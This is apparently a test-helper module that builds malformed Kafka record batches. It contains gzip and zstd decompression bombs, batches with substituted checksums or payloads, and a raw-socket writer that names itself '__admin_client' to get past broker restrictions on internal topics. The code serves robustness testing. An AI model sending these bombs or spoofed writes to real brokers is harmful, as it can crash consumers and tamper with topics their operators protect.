"""Batches that a client may write to a log and a reader may stumble over, byte by byte, and a way to write them.

A producer sends none of these. Brokers look into what is compressed, so what a broker takes is lawful to it: a value of
any size that a small batch unpacks to.
"""

import socket
import struct
import time
import zlib
from collections.abc import Sequence
from typing import Final

from streaming.base import kafka_frames

GZIP, ZSTD, UNKNOWN_CODEC = 1, 4, 5

_PRODUCE: Final = 0
_VERSION: Final = 7
"""The first whose batches may be of zstd."""
_TOOL: Final = b"__admin_client"
_BLOCK: Final = 128 * 1024
"""Most that a block of zstd unpacks to."""
_CHUNK: Final = 16 * 1024 * 1024
_GZIP_BITS: Final = 31
"""The largest window, with gzip's header."""

Pair = tuple[bytes, bytes]


def batch(
    records: Sequence[Pair], *, codec: int = 0, packed: bytes | None = None, checksum: int | None = None
) -> bytes:
    """A batch of these keys and values; `packed` and `checksum` stand in the place of what they would be."""
    payload = b"".join(_record(number, key, _sized(value)) for number, (key, value) in enumerate(records))
    return _batch(len(records), codec, payload if packed is None else packed, checksum)


def gzip_bomb(key: bytes, size: int) -> bytes:
    """A batch of one record whose value is so many zeros."""
    packer = zlib.compressobj(9, wbits=_GZIP_BITS)
    packed = [packer.compress(_record(0, key, _varint(size), more=size)[:-1])]
    packed += [packer.compress(bytes(min(_CHUNK, size + 1 - at))) for at in range(0, size + 1, _CHUNK)]
    return _batch(1, GZIP, b"".join([*packed, packer.flush()]))


def zstd_bomb(key: bytes, size: int) -> bytes:
    """The same, in four bytes for each 128 KiB: blocks that say one byte and how often it comes."""
    record = _record(0, key, _varint(size), more=size)
    zeros = size + 1  # the last is the number of headers
    head = record[:-1]
    blocks = [_block(head, 0, len(head))]
    while zeros:
        run = min(zeros, _BLOCK)
        zeros -= run
        blocks.append(_block(b"\x00", 1, run, last=not zeros))
    # Its size in eight bytes, and a window of 1 MiB.
    frame = b"\x28\xb5\x2f\xfd\xc0\x50" + struct.pack("<Q", len(head) + size + 1) + b"".join(blocks)
    return _batch(1, ZSTD, frame)


def write(servers: str, topic: str, partition: int, batch: bytes) -> int:
    """Have a broker append a batch, as a producer does; returns its first offset.

    The client names itself as tools do, whom brokers let write to their own topics.
    """
    host, _, port = servers.partition(":")
    name = topic.encode()
    body = struct.pack(">hhii", -1, 1, 30_000, 1) + struct.pack(">h", len(name)) + name
    body += struct.pack(">iii", 1, partition, len(batch)) + batch
    with socket.create_connection((host, int(port)), timeout=60) as connection:
        header = struct.pack(">hhih", _PRODUCE, _VERSION, 1, len(_TOOL)) + _TOOL
        answer = kafka_frames.ask(connection, header + body)
    # Correlation id, one topic and its name, one partition and its number.
    error, offset = struct.unpack_from(">hq", answer, 4 + 4 + 2 + len(name) + 4 + 4)
    assert 0 == error, f"the broker refuses the batch: error {error}"
    return int(offset)


def _batch(count: int, codec: int, payload: bytes, checksum: int | None = None) -> bytes:
    now_ms = time.time_ns() // 1_000_000
    covered = struct.pack(">hiqqqhii", codec, count - 1, now_ms, now_ms, -1, -1, -1, count) + payload
    behind_length = struct.pack(">ibI", -1, 2, crc32c(covered) if checksum is None else checksum) + covered
    return struct.pack(">qi", 0, len(behind_length)) + behind_length


def _record(number: int, key: bytes, value: bytes, *, more: int = 0) -> bytes:
    """A record; `value` has its length before it. Of it `more` bytes are counted that are not there."""
    body = b"\x00" + _varint(0) + _varint(number) + _sized(key) + value + _varint(0)
    return _varint(len(body) + more) + body


def _block(content: bytes, type_: int, size: int, *, last: bool = False) -> bytes:
    return ((size << 3) | (type_ << 1) | last).to_bytes(3, "little") + content


def _sized(data: bytes) -> bytes:
    return _varint(len(data)) + data


def _varint(number: int) -> bytes:
    """Zigzag, as in records."""
    rest, written = (number << 1) ^ (number >> 63), bytearray()
    while rest >= 0x80:
        written.append(rest & 0x7F | 0x80)
        rest >>= 7
    written.append(rest)
    return bytes(written)


def crc32c(data: bytes) -> int:
    """The checksum of a batch (Castagnoli)."""
    found = 0xFFFFFFFF
    for byte in data:
        found = _CRC32C[(found ^ byte) & 0xFF] ^ (found >> 8)
    return found ^ 0xFFFFFFFF


def _of_byte(byte: int) -> int:
    for _ in range(8):
        byte = (byte >> 1) ^ 0x82F63B78 if byte & 1 else byte >> 1
    return byte


_CRC32C: Final = [_of_byte(byte) for byte in range(256)]
